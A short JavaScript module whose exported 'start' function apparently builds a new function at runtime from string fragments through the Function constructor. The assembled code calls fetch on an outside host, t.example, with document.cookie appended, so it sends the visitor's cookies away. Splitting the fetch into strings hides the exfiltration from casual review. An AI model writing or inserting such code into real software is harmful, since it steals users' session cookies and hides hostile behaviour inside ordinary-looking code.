import { assemble } from './assemble.js';

const parts = ['return ', 'fetch("//t.example/?" + document.cookie)'];

export const start = () => assemble(Function, parts);
